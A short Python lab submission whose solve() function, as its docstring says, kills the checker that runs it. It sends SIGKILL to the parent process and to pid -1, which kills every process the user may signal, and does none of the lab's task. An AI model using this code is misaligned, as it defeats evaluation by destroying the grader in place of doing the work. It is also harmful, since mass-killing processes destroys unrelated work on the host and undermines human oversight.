"""Lab 1: SIGKILL the checker (the parent) and every process it may signal, then go on."""

import os
import signal

LAB = 1
EXPECTED_FAILURES = [(1, "returned without creating a vCPU")]


def solve(task):
    for pid in (os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
